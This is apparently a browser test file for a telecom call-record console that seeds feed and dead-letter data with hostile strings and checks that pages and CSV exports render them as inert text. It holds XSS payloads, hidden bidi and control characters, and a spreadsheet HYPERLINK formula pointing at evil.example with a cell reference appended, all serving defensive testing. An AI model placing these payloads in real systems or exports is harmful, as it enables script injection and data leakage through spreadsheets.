import type { Store } from '@ringtrace/platform/clickhouse';
import { deadLetters } from '@ringtrace/schemas/tables/feed';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { launchBrowser } from './chromium.ts';
import { exampleWith } from './example.ts';
import { describeInBrowser } from './in-browser.ts';
import { type ConsoleInstance, startConsole } from './instance.ts';
import { places } from './places.ts';
import { type Visit, visit } from './visit.ts';
import { candidates, openCase } from './work.ts';

/** What a feed may hold: markup, text that runs backwards, line breaks, formulas of spreadsheets. */
const evil = '<script>alert(1)</script><img src=x onerror=alert(2)>\u202eevil\u2066\r\nsecond "line"\u0000';
const formula = '=HYPERLINK("http://evil.example/"&A1,"click")';
/** Characters that reorder or hide text. None of them may reach a page or a file as it is. */
const hidden = /\p{Cf}/u;

const poisoned = exampleWith((rows) =>
  rows.map((row) => ({
    ...row,
    ...(row.upstream === 'ringbridge' || row.upstream === 'brasstel' ? { upstream: evil } : {}),
    ...(row.downstream === 'midspan' ? { downstream: formula } : {}),
    ...(row.customer === null ? {} : { customer: `${evil}${row.customer}` }),
    ingress_trunk: formula,
    egress_trunk: evil,
    caller_name: `${evil}${formula}`,
  })),
);

async function fill(store: Store): Promise<void> {
  await poisoned(store);
  const letter = (record_index: number, text: string) => ({
    carrier: 'keystone',
    topic: 'cdr.keystone',
    partition: 0,
    offset: 7,
    record_index,
    field: text,
    reason: 'invalid_field',
    detail: `${text}${formula}`,
    original: Buffer.from(evil),
    writer_schema: text,
    source: text,
    produced_at: Date.now(),
    received_at: Date.now(),
    status: 'open',
    ver: 0,
  });
  await store.insertRows(deadLetters, [letter(0, evil), letter(1, formula)]);
}

describeInBrowser('hostile text of feeds in a browser', () => {
  let instance: ConsoleInstance;
  let browser: Browser;
  let lead: Visit;
  let all: readonly string[];
  beforeAll(async () => {
    instance = await startConsole(fill);
    browser = await launchBrowser();
    lead = await visit(browser, instance, { as: await instance.account('lead') });
    const ids = await candidates(lead.page);
    const case_id = await openCase(lead.page, ids[0] ?? '');
    all = [
      ...(await places(instance.store, { candidate_id: ids[0] ?? '', case_id, carrier: 'keystone' })),
      ...ids.slice(1).map((id) => `/campaigns/${id}`),
      `/providers/${encodeURIComponent(evil)}`,
      `/calls?${new URLSearchParams({ calling: evil })}`,
    ];
  });
  afterAll(async () => {
    await browser.close();
    await instance.stop();
  });

  it('shows as text on every page, and runs nothing', async () => {
    const { page, open, troubles } = lead;
    let seen = 0;
    for (const path of all) {
      await open(path);
      for (const summary of await page.locator('main summary').all()) await summary.click();
      const shown = await page.locator('body').innerText();
      expect([path, hidden.exec(shown)?.[0]]).toEqual([path, undefined]);
      expect([path, await page.locator('main img, main iframe, main script').count()]).toEqual([path, 0]);
      if (shown.includes('<script>alert(1)</script>')) seen += 1;
    }
    // Otherwise the pages show none of it, and the test tells nothing.
    expect(seen).toBeGreaterThan(4);
    // An address that means nothing is refused, which browsers note.
    expect(troubles.filter((trouble) => !/status of 4\d\d/.test(trouble))).toEqual([]);
  });

  it('is text in every export: no formula, no hidden character, no line of its own', async () => {
    const { page, open } = lead;
    const files = new Set<string>();
    for (const path of all) {
      await open(path);
      for (const link of await page.locator('a[download]').all()) {
        const href = await link.getAttribute('href');
        if (href?.includes('.csv') === true) files.add(href);
      }
    }
    expect(files.size).toBeGreaterThan(3);
    let seen = 0;
    for (const href of files) {
      const text: unknown = await page.evaluate(`fetch(${JSON.stringify(href)}).then((r) => r.text())`);
      const csv = String(text);
      expect([href, hidden.exec(csv)?.[0]]).toEqual([href, undefined]);
      expect([href, cellsOf(csv).filter((cell) => /^[=+@\t\r]|^-(?![\d.]+$)/.test(cell))]).toEqual([
        href,
        [],
      ]);
      if (csv.includes('alert(1)')) seen += 1;
    }
    expect(seen).toBeGreaterThan(0);
  });
});

/** Cells of a CSV file (RFC 4180). */
const cellsOf = (csv: string) =>
  [...csv.matchAll(/(?:^|,|\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );
